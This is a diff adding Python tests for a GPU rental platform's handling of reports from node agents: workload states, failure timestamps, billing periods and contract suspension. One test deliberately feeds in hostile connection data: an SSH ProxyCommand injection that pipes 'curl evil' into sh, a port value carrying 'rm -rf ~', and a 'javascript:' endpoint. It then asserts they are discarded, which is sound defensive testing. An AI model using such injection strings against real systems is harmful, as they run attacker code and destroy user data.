@@ -17,6 +17,7 @@ from capacity.metering.validation import AcceptedRecord, GpuRef, Rejection, vali
 from capacity.models import Node, NodeStatus
 from contracts.assignments import apply_reports, assignment_covers, backoff_seconds, load_plans
 from contracts.billable_usage import UsageKey, held_gpu_seconds
+from contracts.lifecycle import contract_suspend
 from contracts.models import Allocation, NodeAssignments, WorkloadState
 from contracts.workloads import instance_start, workload_stop
 from tests.contracts.usage_builders import active_contract, gpu_line
@@ -234,6 +235,84 @@ def test_agent_states_move_the_workload_and_a_failure_stops_billing_there(worklo
         now=NOW + timedelta(hours=5),
     ) == {UsageKey(line.pk): Decimal(2 * 2832)}
     assert NodeAssignments.objects.get(node_id=node_id).generation == 2  # told to drop it
+
+
+def _report(workload, *, at, **item):
+    return AssignmentReport(
+        node_id=workload.node_id,
+        polled_at=at,
+        agent_generation=1,
+        agent_digest="c" * 64,
+        workloads=[{"id": workload.public_id, **item}],
+    )
+
+
+def test_connection_details_a_hostile_agent_sends_never_reach_the_ssh_command(workload):
+    """The buyer pastes ``ssh -p <port> root@<host>`` into a shell: only a plain host,
+    the workload's own ports mapped to port numbers and an http(s) endpoint are kept."""
+    hostile = {
+        "host": "-oProxyCommand=sh -c 'curl evil|sh' x",
+        "ports": {"22": "40022; rm -rf ~", "8888": 40023, "23": 40024, "x": True},
+        "endpoint": "javascript:alert(1)",
+        "extra": "kept nowhere",
+    }
+    at = NOW + timedelta(minutes=1)
+    apply_reports(
+        reports=[
+            _report(workload, at=at, state="running", since=format_time(at), connection=hostile)
+        ],
+        now=at,
+    )
+    workload.refresh_from_db()
+    # Port 8888 was not asked for (the instance maps port 22 only), 22's value is no port.
+    assert (workload.state, workload.connection) == (WorkloadState.RUNNING, {"ports": {}})
+    fine = {
+        "host": "node-7.example.net",
+        "ports": {"22": 40022},
+        "endpoint": "https://node-7.example.net:8443/v1",
+    }
+    later = at + timedelta(minutes=1)
+    apply_reports(
+        reports=[
+            _report(workload, at=later, state="running", since=format_time(at), connection=fine)
+        ],
+        now=later,
+    )
+    workload.refresh_from_db()
+    assert workload.connection == fine
+
+
+def test_an_agent_cannot_date_a_failure_before_the_state_it_reported(workload, line):
+    running_since = NOW + timedelta(minutes=2)
+    at = NOW + timedelta(minutes=3)
+    apply_reports(
+        reports=[_report(workload, at=at, state="running", since=format_time(running_since))],
+        now=at,
+    )
+    later = NOW + timedelta(hours=2)
+    # The agent claims the instance failed at its very start, after two hours running.
+    apply_reports(
+        reports=[_report(workload, at=later, state="failed", since=format_time(NOW), reason="x")],
+        now=later,
+    )
+    workload.refresh_from_db()
+    assert (workload.state, workload.ended_at) == (WorkloadState.FAILED, running_since)
+    assert held_gpu_seconds(
+        start=NOW - timedelta(days=1), end=NOW + timedelta(days=1), line_ids=[line.pk], now=later
+    ) == {UsageKey(line.pk): Decimal(2 * 120)}
+
+
+def test_suspending_a_contract_stops_its_instances(workload, line):
+    suspended = contract_suspend(contract=line.contract, actor=None, reason="unpaid invoice")
+    workload.refresh_from_db()
+    assert (workload.state, workload.reason) == (
+        WorkloadState.STOPPED,
+        "The contract was suspended.",
+    )
+    assert workload.ended_at == suspended.suspended_at
+    assert set(Allocation.objects.filter(workload=workload).values_list("period", flat=True)) == {
+        DateTimeTZRange(NOW, suspended.suspended_at, "[)")
+    }
 
 
 def test_a_node_lost_mid_instance_stops_billing_at_its_last_healthy_minute(workload, line):
